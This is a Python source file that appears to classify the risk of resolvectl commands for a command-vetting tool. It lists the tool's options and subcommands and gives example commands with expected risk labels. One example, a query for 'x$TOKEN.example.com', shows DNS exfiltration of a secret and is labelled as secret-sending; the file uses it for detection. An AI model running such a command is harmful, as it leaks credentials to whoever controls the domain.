from __future__ import annotations

from riskclass.model.tables import flags, sub, takes, tool, when

TOOL = tool(
    "resolvectl",
    about="ask the resolver, and set it",
    docs="man:resolvectl(1)",
    inherits=True,
    inert="--help --version",
    options=[
        takes(
            "-i/--interface -p/--protocol -t/--type -c/--class --service-address --service-txt --cname --validate"
            " --synthesize --cache --zone --trust-anchor --network --search --legend --json --stale-data"
            " --relax-single-label --set-dns --set-domain --set-llmnr --set-mdns --set-dnsovertls --set-dnssec"
            " --set-nta"
        ),
        takes("--raw", "[VALUE]"),
        flags("-h/--help --version --no-pager --no-ask-password -4 -6 -j -l/--full"),
    ],
    rows=[
        when("--set-dns --set-domain --set-llmnr --set-mdns --set-dnsovertls --set-dnssec --set-nta", does="net.config")
    ],
    subs=[
        sub("query, service, openpgp, tlsa", "NAME...", does="net.query NAME"),
        sub("status, show-cache, show-server-state, statistics, monitor", "LINK..."),
        sub("reset-statistics, flush-caches, reset-server-features", does="refresh"),
        sub(
            "dns, domain, default-route, llmnr, mdns, dnsovertls, dnssec, nta",
            "LINK VALUE...",
            rows=[
                when("VALUE", does="net.config LINK", because="changes how names are resolved"),
            ],
        ),
        sub("revert", "LINK", does="net.config LINK"),
        sub("log-level", "LEVEL", rows=[when("LEVEL", does="host.config LEVEL")]),
        sub("help"),
    ],
    examples="""
        resolvectl                              #=> read_only
        resolvectl status eth0                  #=> read_only
        resolvectl query -t MX example.com      #=> read_only
        resolvectl query "x$TOKEN.example.com"  #=> exposure secret.send
        resolvectl dns eth0                     #=> read_only
        resolvectl dns eth0 192.0.2.1           #=> disruptive net.config
        resolvectl revert eth0                  #=> disruptive
        resolvectl flush-caches                 #=> reversible_low refresh
        resolvectl log-level                    #=> read_only
        resolvectl log-level debug              #=> config_mutation
        resolvectl --set-dns=192.0.2.1 status   #=> disruptive
        resolvectl frobnicate                   #=> unknown unknown.subcommand
    """,
)
